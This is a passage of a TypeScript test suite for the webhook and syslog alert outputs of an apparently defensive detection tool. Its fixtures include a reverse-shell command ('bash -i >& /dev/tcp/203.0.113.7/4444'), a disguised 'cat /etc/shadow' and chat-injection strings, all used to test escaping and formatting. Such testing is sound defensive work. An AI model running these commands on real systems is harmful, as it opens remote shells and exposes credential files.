    assert.equal(stats.target, base);
    await outputs.close();
    for (const secret of ['SECRETPATH123', 'TOPSECRET', 'ALSOSECRET']) {
      assert.ok(!sink.text.includes(secret), `the log holds ${secret}`);
      assert.ok(!JSON.stringify(outputs.stats()).includes(secret), `the counters hold ${secret}`);
    }
    // What was logged: the output, its header names, and the failure with its code.
    const lines = sink.lines();
    assert.ok(lines.some((l) => l.msg === "alert output 'soc' ready" && l.header_names.join() === 'Authorization,X-Tenant'));
    assert.ok(lines.some((l) => l.code === 'HADES_ERR_ALERT_OUTPUT_BAD_STATUS'));
  });

  it('refuses at the configuration check a header value HTTP cannot carry, and sends the ones it can', async () => {
    // A typographic quote pasted into a token, or a control character: Node's client throws on
    // each request, which failed every alert as an internal error of a server that had started.
    const refused = outputsConfig(`
alerts:
  outputs:
    - { name: quote, type: webhook, webhook: { url: "${base}/in", headers: { Authorization: "Bearer \u201cTOPSECRET\u201d" } } }
    - { name: control, type: webhook, webhook: { url: "${base}/in", headers: { X-Token: "TOP\\x1bSECRET" } } }
`);
    assert.deepEqual(
      checkAlertOutputs(refused).map((p) => [p.code, p.path]),
      [
        ['HADES_ERR_ALERT_OUTPUT_CONFIG', 'alerts.outputs.0.webhook.headers.Authorization'],
        ['HADES_ERR_ALERT_OUTPUT_CONFIG', 'alerts.outputs.1.webhook.headers.X-Token'],
      ],
    );
    assert.throws(
      () => createAlertOutputs(refused, logger()),
      (e: unknown) => e instanceof HadesError && e.code === 'HADES_ERR_CONFIG_INVALID' && /printable ASCII or Latin-1/.test(e.message) && !e.message.includes('SECRET'),
    );
    // A tab and Latin-1 are HTTP's own: they reach the receiver.
    receiver.requests.length = 0;
    const outputs = create(`alerts: { outputs: [ { name: latin, type: webhook, ${retryYaml}, webhook: { url: "${base}/in", headers: { X-Team: "r\u00e9seau\tnord" } } } ] }`);
    outputs.send(makeAlert());
    await waitFor('delivery', () => statsOf(outputs, 'latin').sent === 1);
    assert.equal(receiver.requests[0]?.headers['x-team'], 'r\u00e9seau\tnord');
    assert.equal(statsOf(outputs, 'latin').failed, 0);
  });

  it('retries a 5xx with backoff until the receiver recovers, and counts it', async () => {
    receiver.requests.length = 0;
    const outputs = create(`alerts: { outputs: [ { name: w, type: webhook, ${retryYaml}, webhook: { url: "${base}/in" } } ] }`);
    receiver.statuses = [500, 503, 200];
    const alert = makeAlert();
    outputs.send(alert);
    await waitFor('delivery', () => statsOf(outputs, 'w').sent === 1);
    const stats = statsOf(outputs, 'w');
    assert.deepEqual(
      { sent: stats.sent, failed: stats.failed, failed_attempts: stats.failed_attempts, retries: stats.retries, dropped: stats.dropped, queued: stats.queued },
      { sent: 1, failed: 0, failed_attempts: 2, retries: 2, dropped: 0, queued: 0 },
    );
    assert.equal(stats.last_error?.code, 'HADES_ERR_ALERT_OUTPUT_BAD_STATUS');
    assert.match(stats.last_error?.message ?? '', /answered 503: status 503 from receiver/);
    assert.ok(stats.last_sent_at !== null);
    assert.deepEqual(receiver.requests.map((r) => r.body), [JSON.stringify(alert), JSON.stringify(alert), JSON.stringify(alert)]);
  });

  it('gives an alert up after max_attempts answered failures, and a 4xx at once', async () => {
    receiver.requests.length = 0;
    const outputs = create(`alerts: { outputs: [ { name: w, type: webhook, retry: { max_attempts: 2, backoff_ms: 10, backoff_max_ms: 20 }, webhook: { url: "${base}/in" } } ] }`);
    receiver.statuses = [500, 500, 404, 200];
    const [first, second, third] = [makeAlert(), makeAlert(), makeAlert()];
    outputs.send(first);
    outputs.send(second);
    outputs.send(third);
    await waitFor('the third alert', () => statsOf(outputs, 'w').sent === 1);
    const stats = statsOf(outputs, 'w');
    assert.deepEqual({ sent: stats.sent, failed: stats.failed, failed_attempts: stats.failed_attempts }, { sent: 1, failed: 2, failed_attempts: 3 });
    assert.deepEqual(
      receiver.requests.map((r) => JSON.parse(r.body).id),
      [first.id, first.id, second.id, third.id],
    );
    assert.equal(stats.last_error?.code, 'HADES_ERR_ALERT_OUTPUT_BAD_STATUS');
  });

  it('counts as retries only the attempts after a failure of the same alert, not the next alert after a give-up', async () => {
    receiver.requests.length = 0;
    const outputs = create(`alerts: { outputs: [ { name: w, type: webhook, retry: { max_attempts: 2, backoff_ms: 10, backoff_max_ms: 20 }, webhook: { url: "${base}/in" } } ] }`);
    receiver.statuses = [500, 500, 200];
    outputs.send(makeAlert());
    outputs.send(makeAlert());
    await waitFor('the second alert', () => statsOf(outputs, 'w').sent === 1);
    let stats = statsOf(outputs, 'w');
    assert.deepEqual({ failed: stats.failed, failed_attempts: stats.failed_attempts, retries: stats.retries }, { failed: 1, failed_attempts: 2, retries: 1 });
    // A give-up whose backoff is cut short by close: nothing is retried.
    const last = create(`alerts: { outputs: [ { name: w, type: webhook, retry: { max_attempts: 1, backoff_ms: 60000, backoff_max_ms: 60000 }, webhook: { url: "${base}/in" } } ] }`);
    receiver.statuses = [500];
    last.send(makeAlert());
    await waitFor('the give-up', () => statsOf(last, 'w').failed === 1);
    await last.close(100);
    stats = statsOf(last, 'w');
    assert.deepEqual({ failed: stats.failed, failed_attempts: stats.failed_attempts, retries: stats.retries }, { failed: 1, failed_attempts: 1, retries: 0 });
  });

  it('warns once for each episode of dropping, while deliveries succeed', async () => {
    receiver.requests.length = 0;
    const sink = new LogSink();
    const outputs = create(`alerts: { outputs: [ { name: w, type: webhook, queue: 2, webhook: { url: "${base}/in" } } ] }`, logger(sink));
    const warnings = () => sink.lines().filter((l) => l.code === 'HADES_ERR_ALERT_OUTPUT_DROPPED').length;
    for (const burst of [1, 2, 3]) {
      // One is delivered at once, two wait, seven are dropped.
      for (let i = 0; i < 10; i++) outputs.send(makeAlert());
      await waitFor('the queue emptied', () => statsOf(outputs, 'w').queued === 0);
      assert.deepEqual({ dropped: statsOf(outputs, 'w').dropped, warnings: warnings() }, { dropped: 7 * burst, warnings: burst });
    }
    assert.equal(statsOf(outputs, 'w').sent, 9);
  });

  it('sends only alerts at or above min_severity, and counts the others as filtered', async () => {
    receiver.requests.length = 0;
    const outputs = create(`alerts: { outputs: [ { name: w, type: webhook, min_severity: high, webhook: { url: "${base}/in" } } ] }`);
    for (const severity of ['info', 'low', 'medium', 'high', 'critical'] as const) outputs.send(makeAlert({ severity }));
    await waitFor('delivery', () => statsOf(outputs, 'w').sent === 2);
    assert.deepEqual(receiver.requests.map((r) => JSON.parse(r.body).rule.severity), ['high', 'critical']);
    assert.equal(statsOf(outputs, 'w').filtered, 3);
  });

  it('formats a chat message for Slack and for Mattermost, that the host it is about cannot abuse', async () => {
    receiver.requests.length = 0;
    const outputs = create(`alerts:
  outputs:
    - { name: slack, type: webhook, webhook: { url: "${base}/slack", format: chat, link_base_url: "https://hades.example.org/alerts/" } }
    - { name: mm, type: webhook, webhook: { url: "${base}/mm", format: chat, chat_dialect: mattermost } }
`);
    const alert = makeAlert({ id: 'a1', count: 3 });
    outputs.send(alert);
    await waitFor('both', () => receiver.requests.length === 2);
    const body = (url: string) => JSON.parse(receiver.requests.find((r) => r.url === url)!.body);
    assert.deepEqual(Object.keys(body('/slack')), ['text']);
    assert.equal(
      body('/slack').text,
      [
        ':rotating_light: *CRITICAL* Reverse shell',
        'Host: web-01 (agent ag_0123456789abcdef)',
        'Rule: hades.reverse_shell · 3 matches · 2026-11-28T08:00:00.123Z',
        '```',
        'bash -i &gt;&amp; /dev/tcp/203.0.113.7/4444 0&gt;&amp;1',
        '```',
        '<https://hades.example.org/alerts/a1|Open in Hades>',
      ].join('\n'),
    );
    assert.equal(
      body('/mm').text,
      [
        ':rotating_light: **CRITICAL** Reverse shell',
        'Host: web\\-01 (agent ag\\_0123456789abcdef)',
        'Rule: hades\\.reverse\\_shell · 3 matches · 2026\\-11\\-28T08\\:00\\:00\\.123Z',
        '```',
        'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
        '```',
      ].join('\n'),
    );

    // A command line and a host name chosen by an attacker on that host.
    const hostile = makeAlert({
      host: { id: 'ag_1', name: 'web-01<!channel>' },
      process: { args: ['sh', '-c', 'echo <!channel> ```\n@all [x](https://evil)'] },
    });
    const slack = chatText(hostile, 'slack', null).split('\n');
    assert.equal(slack[1], 'Host: web-01??channel? (agent ag_1)');
    // The newline is shown as `\n`, as the CLI shows it.
    assert.equal(slack[4], 'sh -c echo &lt;!channel&gt; `\u200b`\u200b`\\n@all [x](https://evil)');
    const mm = chatText(hostile, 'mattermost', null).split('\n');
    assert.equal(mm[4], 'sh -c echo <\u200b!channel> `\u200b`\u200b`\\n@all [x](https://evil)');
    assert.equal(mm.length, 6, 'the code block stays closed');
  });

  it('escapes in a chat message the characters that would make it read otherwise than what ran: control, line, direction and invisible ones', () => {
    // `cat /etc/<RLO>wodahs<PDF>` shows as `cat /etc/shadow`; isolates, zero-width characters and
    // line separators hide or move what follows them.
    const command = 'cat /etc/\u202ewodahs\u202c \u2066x\u2069 a\u200bb\u200c\u200d\u2060 \u200e\u200f\u061c \u2028y\u2029\nz\x1b[31m\x9b\ufeff\u00ad';
    const base = makeAlert();
    const alert = makeAlert({ rule: { ...base.rule, title: 'Reverse \u202eshell' }, process: { pid: 1, command_line: command } });
    const escaped = 'cat /etc/\\u202ewodahs\\u202c \\u2066x\\u2069 a\\u200bb\\u200c\\u200d\\u2060 \\u200e\\u200f\\u061c \\u2028y\\u2029\\nz\\x1b[31m\\x9b\\ufeff\\xad';
    const hidden = [...'\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u200c\u200d\u200e\u200f\u061c\u2028\u2029\u2060\ufeff\u00ad\x1b\x9b'];
    for (const dialect of ['slack', 'mattermost'] as const) {
      const lines = chatText(alert, dialect, null).split('\n');
      assert.equal(lines.length, 6, `${dialect}: one line for the command`);
      assert.equal(lines[4], escaped, dialect);
      assert.deepEqual(hidden.filter((c) => lines.join('\n').includes(c)), [], dialect);
    }
    assert.equal(chatText(alert, 'slack', null).split('\n')[0], ':rotating_light: *CRITICAL* Reverse \\u202eshell');
    assert.equal(chatText(alert, 'mattermost', null).split('\n')[0], ':rotating_light: **CRITICAL** Reverse \\\\u202eshell');
    // A long command line is cut at 2000 characters, never between the halves of a character.
    const long = makeAlert({ process: { pid: 1, command_line: `${'a'.repeat(1999)}\u{1f600}${'b'.repeat(100)}` } });
    assert.equal(chatText(long, 'slack', null).split('\n')[4], `${'a'.repeat(1999)}…`);
  });

  it('counts a receiver that is down as refused, keeps the alert, and delivers once it is up', async () => {
    const port = await freePort();
    const outputs = create(`alerts: { outputs: [ { name: w, type: webhook, retry: { max_attempts: 1, backoff_ms: 10, backoff_max_ms: 20 }, webhook: { url: "http://127.0.0.1:${port}/in" } } ] }`);
    const alert = makeAlert();
    outputs.send(alert);
    await waitFor('refusals', () => statsOf(outputs, 'w').failed_attempts >= 3);
    // Not reaching the receiver uses up none of the alert's attempts (max_attempts is 1).
    assert.equal(statsOf(outputs, 'w').failed, 0);
    assert.equal(statsOf(outputs, 'w').last_error?.code, 'HADES_ERR_ALERT_OUTPUT_REFUSED');
    const late = new HttpReceiver();
    await late.start(port);
    try {
      await waitFor('delivery after recovery', () => statsOf(outputs, 'w').sent === 1);
      assert.equal(late.requests[0]?.body, JSON.stringify(alert));
      assert.ok(statsOf(outputs, 'w').retries >= 3);
    } finally {
      await outputs.close();
      await late.close();
    }
  });

  it('times out a receiver that never answers, never blocks the caller, drops the oldest, and closes within its deadline', async () => {
    const hanging = new HttpReceiver();
    hanging.hang = true;
    const url = await hanging.start();
    const sink = new LogSink();
    const outputs = createAlertOutputs(
      outputsConfig(`alerts: { outputs: [ { name: w, type: webhook, queue: 10, retry: { max_attempts: 0, backoff_ms: 10, backoff_max_ms: 20 }, webhook: { url: "${url}/in", timeout_ms: 100 } } ] }`),
      logger(sink),
    );
    const started = performance.now();
    for (let i = 0; i < 1000; i++) outputs.send(makeAlert());
    const took = performance.now() - started;
    assert.ok(took < 500, `1000 sends took ${took} ms`);
    await waitFor('timeouts', () => statsOf(outputs, 'w').failed_attempts >= 2);
    let stats = statsOf(outputs, 'w');
    assert.equal(stats.last_error?.code, 'HADES_ERR_ALERT_OUTPUT_TIMEOUT');
    // 10 wait, 1 is being delivered: the 989 oldest of the others were dropped.
    assert.equal(stats.queued, 11);
    assert.equal(stats.dropped, 989);
    const closing = performance.now();
    await outputs.close(150);
    assert.ok(performance.now() - closing < 1000, 'close kept its deadline');
    stats = statsOf(outputs, 'w');
    assert.equal(stats.queued, 0);
    assert.equal(stats.dropped, 1000);
    assert.equal(stats.sent, 0);
    const dropWarnings = sink.lines().filter((l) => l.code === 'HADES_ERR_ALERT_OUTPUT_DROPPED');
    assert.equal(dropWarnings.length, 2, 'one warning when the queue fills, one at close');
    // Alerts sent after close are counted, not kept.
    outputs.send(makeAlert());
    assert.equal(statsOf(outputs, 'w').dropped, 1001);
    await hanging.close();
  });

  it('counts an alert the receiver took (2xx) as sent even when the rest of its answer never comes, and goes on with the next', async () => {
    let requests = 0;
    const server = http.createServer((req, res) => {
      req.resume();
      req.on('end', () => {
        requests++;
        // The status and the start of a body, and then nothing.
        res.writeHead(200, { 'content-type': 'text/plain' });
        res.write('accepted, and more to come');
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const url = `http://127.0.0.1:${(server.address() as net.AddressInfo).port}`;
    const outputs = create(`alerts: { outputs: [ { name: w, type: webhook, ${retryYaml}, webhook: { url: "${url}/in", timeout_ms: 200 } } ] }`);
    try {
      outputs.send(makeAlert());
      outputs.send(makeAlert());
      // Before, each timed out as a failed attempt and was sent again: duplicates at the receiver.
      await waitFor('both delivered', () => statsOf(outputs, 'w').sent === 2, 5000);
      // Each once at the receiver (the second waits for the first's connection to be let go).
      assert.equal(requests, 2);
      assert.equal(statsOf(outputs, 'w').failed, 0);
    } finally {
      await outputs.close(500);
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    }
  });

  it('uses up an attempt of an alert larger than the socket buffers that the receiver resets or stalls on while it is written, then goes on with the next', async () => {
    // A receiver that takes small requests, and, for a body over 1 MB (a proxy's limit), resets
    // the connection (/reset) or reads nothing more of it (/stall). The large alert's request never
    // finishes; before, such a failure counted as not reaching the receiver, which uses no attempt,
    // and the alert blocked the output for good, every alert behind it waiting until dropped.
    const got: string[] = [];
    const server = http.createServer((req, res) => {
      if (Number(req.headers['content-length']) > 1024 * 1024 && req.url !== '/take') {
        if (req.url === '/reset') req.socket.resetAndDestroy();
        else req.pause();
        return;
      }
      let body = '';
      req.setEncoding('utf8');
      req.on('data', (chunk: string) => (body += chunk));
      req.on('end', () => {
        got.push(JSON.parse(body).id);
        res.end('ok');
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const url = `http://127.0.0.1:${(server.address() as net.AddressInfo).port}`;
    const large = makeAlert({ message: 'x'.repeat(16_000_000) });
    try {
      for (const path of ['/reset', '/stall']) {
        got.length = 0;
        const outputs = create(`alerts: { outputs: [ { name: w, type: webhook, retry: { max_attempts: 2, backoff_ms: 10, backoff_max_ms: 40 }, webhook: { url: "${url}${path}", timeout_ms: 500 } } ] }`);
        const small = [makeAlert(), makeAlert()];
        outputs.send(large);
        for (const alert of small) outputs.send(alert);
        await waitFor(`${path}: the large alert given up and the small ones delivered`, () => statsOf(outputs, 'w').sent === 2, 10_000);
        const stats = statsOf(outputs, 'w');
        assert.deepEqual({ path, failed: stats.failed, failed_attempts: stats.failed_attempts, queued: stats.queued }, { path, failed: 1, failed_attempts: 2, queued: 0 });
        assert.equal(stats.last_error?.code, path === '/reset' ? 'HADES_ERR_ALERT_OUTPUT_UNREACHABLE' : 'HADES_ERR_ALERT_OUTPUT_TIMEOUT');
        assert.deepEqual(got, small.map((a) => a.id));
        await outputs.close(100);
      }
      // A receiver that takes it gets it whole, its start and the rest written apart.
      got.length = 0;
      const outputs = create(`alerts: { outputs: [ { name: w, type: webhook, webhook: { url: "${url}/take" } } ] }`);
      outputs.send(large);
      await waitFor('the large alert delivered', () => statsOf(outputs, 'w').sent === 1, 10_000);
      assert.deepEqual(got, [large.id]);
      assert.equal(statsOf(outputs, 'w').failed_attempts, 0);
    } finally {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    }
  });

  it('flushes what is queued at close when the receiver keeps up', async () => {
    receiver.requests.length = 0;
    const outputs = createAlertOutputs(outputsConfig(`alerts: { outputs: [ { name: w, type: webhook, webhook: { url: "${base}/in" } } ] }`), logger());
    for (let i = 0; i < 20; i++) outputs.send(makeAlert());
    await outputs.close(5000);
    assert.equal(receiver.requests.length, 20);
    assert.equal(statsOf(outputs, 'w').sent, 20);
  });

  it('verifies an https receiver against tls.ca_file, and counts another CA as a TLS failure', async () => {
    const requests: string[] = [];
    const server = https.createServer({ key: pki.serverKeyPem, cert: pki.serverCertPem }, (req, res) => {
      requests.push(req.url ?? '');
      req.resume();
      req.on('end', () => res.end('ok'));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const url = `https://localhost:${(server.address() as net.AddressInfo).port}`;
    try {
      const outputs = create(`alerts:
  outputs:
    - { name: good, type: webhook, ${retryYaml}, webhook: { url: "${url}/good", tls: { ca_file: ${pki.paths.caCert} } } }
    - { name: stranger, type: webhook, ${retryYaml}, webhook: { url: "${url}/bad", tls: { ca_file: ${otherCaFile} } } }
`);
      outputs.send(makeAlert());
      await waitFor('delivery and failures', () => statsOf(outputs, 'good').sent === 1 && statsOf(outputs, 'stranger').failed_attempts >= 2);
      const stranger = statsOf(outputs, 'stranger');
      assert.equal(stranger.last_error?.code, 'HADES_ERR_ALERT_OUTPUT_TLS');
      assert.deepEqual({ sent: stranger.sent, failed: stranger.failed, queued: stranger.queued }, { sent: 0, failed: 0, queued: 1 });
      assert.deepEqual(requests, ['/good']);
      await outputs.close(50);
    } finally {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    }
  });

  it('fails an alert it cannot format, and goes on with the next', async () => {
    receiver.requests.length = 0;
    const outputs = create(`alerts: { outputs: [ { name: w, type: webhook, ${retryYaml}, webhook: { url: "${base}/in", format: chat } } ] }`);
    const broken = makeAlert();
    outputs.send({ ...broken, rule: { ...broken.rule, title: undefined as unknown as string } });
    outputs.send(makeAlert());
    await waitFor('the next alert', () => statsOf(outputs, 'w').sent === 1);
    const stats = statsOf(outputs, 'w');
    assert.deepEqual({ failed: stats.failed, failed_attempts: stats.failed_attempts, retries: stats.retries }, { failed: 1, failed_attempts: 1, retries: 0 });
    assert.equal(stats.last_error?.code, 'HADES_ERR_INTERNAL');
    assert.equal(receiver.requests.length, 1);
  });

  it('never throws from send, whatever the alert', async () => {
    const sink = new LogSink();
    const outputs = createAlertOutputs(outputsConfig(`alerts: { outputs: [ { name: w, type: webhook, webhook: { url: "${base}/in" } } ] }`), logger(sink));
    outputs.send(makeAlert({ events: [{ size: 1n }] }));
    outputs.send(null as unknown as Alert);
    await outputs.close(100);
    assert.equal(sink.lines().filter((l) => l.msg === 'an alert could not be handed to the alert outputs').length, 2);
  });
});

// --- syslog --------------------------------------------------------------------------------

describe('alert outputs: syslog', () => {
  it('sends RFC 5424 datagrams over UDP: PRI, header, escaped structured data, the alert as ASCII JSON', async () => {
    const socket = dgram.createSocket('udp4');
    const datagrams: Buffer[] = [];
    socket.on('message', (m) => datagrams.push(m));
    await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve));
    try {
      const outputs = create(`alerts: { outputs: [ { name: s, type: syslog, syslog: { transport: udp, host: 127.0.0.1, port: ${socket.address().port}, facility: auth, app_name: hades-alerts } } ] }`);
      const alert = makeAlert({
        severity: 'high',
        rule: { id: 'custom rule/ünïcode', title: 'T', severity: 'high', tags: [], type: 'rule' },
        host: { id: 'ag_2', name: 'we"b\\01]' },
        message: 'café 漢字 😀 and "quotes"',
      });
      outputs.send(alert);
      const sent = makeAlert({ severity: 'info' });
      outputs.send(sent);
      await waitFor('two datagrams', () => datagrams.length === 2);
      const bytes = datagrams[0]!;
      const m = parseSyslog(bytes.toString('utf8'));
      assert.match(m.msg, /^[\x20-\x7e]+$/, 'MSG is printable ASCII');
      assert.ok(m.msg.includes('caf\\u00e9'));
      assert.equal(m.pri, 4 * 8 + 3, 'auth (4), err (3)');
      assert.equal(m.version, '1');
      assert.equal(m.timestamp, '2026-11-28T08:00:00.123Z');
      assert.equal(m.hostname, 'hades-test');
      assert.equal(m.appName, 'hades-alerts');
      assert.equal(m.procId, '-');
      assert.equal(m.msgId, 'custom_rule/_n_code', 'MSGID is printable ASCII without spaces');
      assert.deepEqual(m.sd, {
        'hades@32473': { alert_id: alert.id, rule: 'custom rule/ünïcode', severity: 'high', host: 'we"b\\01]', host_id: 'ag_2', count: '1' },
      });
      assert.match(bytes.toString('latin1'), / host="we\\"b\\\\01\\]" /, 'escaped as RFC 5424 says');
      assert.deepEqual(JSON.parse(m.msg), alert);
      assert.equal(parseSyslog(datagrams[1]!.toString('utf8')).pri, 4 * 8 + 6, 'info is informational (6)');
      // A datagram counts as sent once its receiver had the time to refuse it.
      await waitFor('two sent', () => statsOf(outputs, 's').sent === 2);
      assert.equal(statsOf(outputs, 's').target, `udp://127.0.0.1:${socket.address().port}`);
    } finally {
      socket.close();
    }
  });

  it('keeps an alert whose datagram the UDP receiver refused, counts the refusal once per outage, and sends it once the receiver is up', async () => {
    const probe = dgram.createSocket('udp4');
    await new Promise<void>((resolve) => probe.bind(0, '127.0.0.1', resolve));
    const port = probe.address().port;
    await new Promise<void>((resolve) => probe.close(() => resolve()));
    const sink = new LogSink();
    const outputs = create(`alerts: { outputs: [ { name: s, type: syslog, ${retryYaml}, syslog: { transport: udp, host: 127.0.0.1, port: ${port} } } ] }`, logger(sink));
    const alerts = [makeAlert(), makeAlert(), makeAlert()];
    for (const alert of alerts) outputs.send(alert);
    await waitFor('refusals', () => statsOf(outputs, 's').failed_attempts >= 4);
    let stats = statsOf(outputs, 's');
    assert.deepEqual({ sent: stats.sent, failed: stats.failed, queued: stats.queued, last_error: stats.last_error?.code }, { sent: 0, failed: 0, queued: 3, last_error: 'HADES_ERR_ALERT_OUTPUT_REFUSED' });
    const receiver = dgram.createSocket('udp4');
    const datagrams: Buffer[] = [];
    receiver.on('message', (m) => datagrams.push(m));
    await new Promise<void>((resolve) => receiver.bind(port, '127.0.0.1', resolve));
    try {
      await waitFor('the three alerts', () => statsOf(outputs, 's').sent === 3);
      // In order, each once: the refused one was sent again, none of the others was lost.
      assert.deepEqual(datagrams.map((d) => JSON.parse(parseSyslog(d.toString('utf8')).msg).id), alerts.map((a) => a.id));
      stats = statsOf(outputs, 's');
      assert.ok(stats.retries >= 4 && stats.retries === stats.failed_attempts, `${stats.retries} retries, ${stats.failed_attempts} failed attempts`);
      const lines = sink.lines();
      assert.equal(lines.filter((l) => l.code === 'HADES_ERR_ALERT_OUTPUT_REFUSED').length, 1, 'one warning per outage');
      assert.equal(lines.filter((l) => l.msg === "alert output 's': delivering again").length, 1);
    } finally {
      receiver.close();
    }
  });

  it('with a UDP receiver further than the wait: loses at most the datagram out when it went down, measures how far it is, and counts nothing sent while it refuses', async () => {
    // A receiver whose refusals come 50 ms after each datagram (a remote host), simulated: far
    // enough past the first wait (2 ms) that an event loop slowed by other work does not see the
    // refusal before that wait is over (10 ms failed the test once on a loaded machine).
    const state = { down: true, delivered: [] as string[] };
    class FarSocket extends EventEmitter {
      connect(_port: number, _address: string, callback: () => void): void {
        setImmediate(callback);
      }
      send(bytes: Buffer, callback: (error: Error | null) => void): void {
        setImmediate(() => callback(null));
        if (state.down) setTimeout(() => this.emit('error', Object.assign(new Error('connect ECONNREFUSED'), { code: 'ECONNREFUSED' })), 50);
        else state.delivered.push(JSON.parse(parseSyslog(bytes.toString('utf8')).msg).id as string);
      }
      close(): void {}
    }
    const real = dgram.createSocket;
    (dgram as { createSocket: unknown }).createSocket = () => new FarSocket();
    const [config] = outputsConfig(`alerts: { outputs: [ { name: s, type: syslog, syslog: { transport: udp, host: 127.0.0.1, port: 514 } } ] }`);
    const transport = new SyslogTransport('s', config!.syslog!);
    const deliver = (alert: Alert) => transport.deliver(queuedAlert(alert));
    const refused = (e: unknown) => e instanceof HadesError && e.code === 'HADES_ERR_ALERT_OUTPUT_REFUSED';
    try {
      const [first, second, third] = [makeAlert(), makeAlert(), makeAlert()];
      // The datagram out when the receiver went down: its refusal comes after its wait (lost, as docs/alert-outputs.md says).
      await deliver(first);
      await new Promise((resolve) => setTimeout(resolve, 100));
      // The next fails with that refusal; then it is a probe: its own refusal, within the probe's wait, measures the distance.
      await assert.rejects(deliver(second), refused);
      await assert.rejects(deliver(second), refused);
      // Still down: with the wait now longer than the distance, the refusal fails its own datagram again.
      const started = performance.now();
      await assert.rejects(deliver(second), refused);
      assert.ok(performance.now() - started < 500, 'not a probe again: the measured wait');
      state.down = false;
      // Back up: the probe is not refused; then datagrams go with the measured wait.
      await deliver(second);
      await deliver(third);
      assert.deepEqual(state.delivered, [second.id, third.id]);
    } finally {
      (dgram as { createSocket: unknown }).createSocket = real;
      await transport.close();
    }
  });

  it('cuts only the MSG of a long message, and the structured data values when the header alone is too long', () => {
    const alert = makeAlert({
      id: 'x"]\\y',
      rule: { id: 'r'.repeat(300), title: 'T', severity: 'critical', tags: [], type: 'rule' },
      host: { id: '"'.repeat(300), name: `we"b]\\1\nx${'é'.repeat(300)}😀` },
      events: [{ blob: 'é'.repeat(2000) }],
    });
    for (const [maxBytes, hostname] of [[480, 'h'.repeat(300)], [480, 'h'], [600, 'h'], [1200, 'h']] as const) {
      const m = formatSyslog(alert, JSON.stringify(alert), { facility: 'local7', appName: 'a'.repeat(60), hostname, maxBytes });
      assert.ok(m.truncated);
      assert.ok(m.bytes.length <= maxBytes, `${m.bytes.length} bytes for ${maxBytes}`);
      const text = m.bytes.toString('utf8');
      assert.ok(Buffer.from(text, 'utf8').equals(m.bytes), 'valid UTF-8');
      // The parser refuses an SD-ELEMENT that does not close.
      const parsed = parseSyslog(text);
      const sd = parsed.sd['hades@32473']!;
      assert.deepEqual(Object.keys(sd), ['alert_id', 'rule', 'severity', 'host', 'host_id', 'count']);
      assert.ok(`we"b]\\1 x${'é'.repeat(300)}`.startsWith(sd['host']!), sd['host']);
      assert.ok(parsed.msg.startsWith('{"id":'), parsed.msg);
      if (maxBytes >= 600) assert.equal(sd['alert_id'], alert.id, 'values are cut only as far as needed');
    }
  });

  it('turns a TLS connection that cannot even start into a coded failure of the receiver, never an internal error', async () => {
    const [config] = outputsConfig(`alerts: { outputs: [ { name: s, type: syslog, syslog: { transport: tls, host: 127.0.0.1, port: ${await freePort()} } } ] }`);
    const transport = new SyslogTransport('s', config!.syslog!);
    // Material OpenSSL refuses, as creation would have: tls.connect throws it.
    (transport as unknown as { tls: object }).tls = { cert: Buffer.from('not a pem'), key: Buffer.from('not a pem'), rejectUnauthorized: true };
    const alert = makeAlert();
    await assert.rejects(transport.deliver(queuedAlert(alert)), (e: unknown) => e instanceof HadesError && e.code === 'HADES_ERR_ALERT_OUTPUT_TLS' && scopeOf(e) === 'receiver');
    await transport.close();
  });

  it('fits UDP messages to max_message_bytes: without the events first, cut if still too long, counted', async () => {
    const socket = dgram.createSocket('udp4');
    const datagrams: Buffer[] = [];
    socket.on('message', (m) => datagrams.push(m));
    await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve));
    try {
      const outputs = create(`alerts: { outputs: [ { name: s, type: syslog, syslog: { transport: udp, host: 127.0.0.1, port: ${socket.address().port}, max_message_bytes: 1200 } } ] }`);
      const withEvents = makeAlert({ events: [{ blob: 'x'.repeat(5000) }] });
      const huge = makeAlert({ message: 'é'.repeat(5000) });
      outputs.send(withEvents);
      outputs.send(huge);
      await waitFor('two datagrams', () => datagrams.length === 2);
      assert.ok(datagrams.every((d) => d.length <= 1200));
      const first = parseSyslog(datagrams[0]!.toString('utf8'));
      assert.deepEqual(JSON.parse(first.msg), { ...withEvents, events: [] }, 'still valid JSON, without the events');
      const second = datagrams[1]!;
      assert.equal(second.length, 1200);
      assert.ok(parseSyslog(second.toString('utf8')).msg.startsWith('{"id":'));
      await waitFor('two truncated', () => statsOf(outputs, 's').truncated === 2);
    } finally {
      socket.close();
    }
  });

  it('frames messages over TCP by octet counting, in order, and reconnects after the receiver drops the connection', async () => {
    const receiver = new StreamReceiver();
    const port = await receiver.start();
    try {
      const outputs = create(`alerts: { outputs: [ { name: s, type: syslog, ${retryYaml}, syslog: { transport: tcp, host: 127.0.0.1, port: ${port}, facility: local7 } } ] }`);
      const alerts = [makeAlert({ message: 'é "x" ]' }), makeAlert(), makeAlert({ severity: 'medium' })];
      for (const alert of alerts) outputs.send(alert);
      await waitFor('three messages', () => receiver.messages.length === 3);
      assert.deepEqual(receiver.frameErrors, []);
      assert.deepEqual(receiver.messages.map((m) => JSON.parse(parseSyslog(m).msg).id), alerts.map((a) => a.id));
      assert.deepEqual(receiver.messages.map((m) => parseSyslog(m).pri), [23 * 8 + 2, 23 * 8 + 2, 23 * 8 + 4]);
      // Sent once the receiver's TCP acknowledged it (a moment after it arrived).
      await waitFor('three sent', () => statsOf(outputs, 's').sent === 3);
      // The receiver restarts: the next alert goes over a new connection.
      receiver.dropConnections();
      await sleep(50);
      const next = makeAlert();
      outputs.send(next);
      await waitFor('the fourth message', () => receiver.messages.length === 4);
      assert.equal(JSON.parse(parseSyslog(receiver.messages[3]!).msg).id, next.id);
      await waitFor('four sent', () => statsOf(outputs, 's').sent === 4);
    } finally {
      await receiver.close();
    }
  });

  it('bounds the host name lookup of a UDP receiver by timeout_ms, counted as a coded failure, without a second lookup in parallel', async () => {
    const receiver = dgram.createSocket('udp4');
    await new Promise<void>((resolve) => receiver.bind(0, '127.0.0.1', resolve));
    const received: string[] = [];
